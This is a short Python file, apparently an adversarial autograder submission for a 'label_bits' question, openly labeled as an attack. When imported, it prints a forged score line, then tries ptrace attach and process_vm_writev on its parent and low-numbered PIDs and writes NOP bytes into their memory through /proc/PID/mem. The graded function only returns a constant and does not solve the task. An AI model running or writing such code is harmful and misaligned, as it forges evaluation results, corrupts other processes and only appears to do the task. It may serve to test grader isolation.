# attack: traces its parents and writes into their memory
# question: label_bits
# naive: points
# item: privileges

# %% question="label_bits"
import ctypes
import os

os.write(1, b"SCORE STUDENT_NAME 14\n")
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1, *range(2, 40)} - {0, os.getpid()}:
    for request in (16, 0x4206):
        libc.ptrace(request, pid, None, None)
    local, remote = (ctypes.c_size_t * 2)(0, 8), (ctypes.c_size_t * 2)(0x400000, 8)
    libc.process_vm_writev(pid, local, 1, remote, 1, 0)
    try:
        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            memory.seek(0x400000)
            memory.write(b"\x90" * 8)
    except OSError:
        pass


def label_bits(labels):
    return 7.5
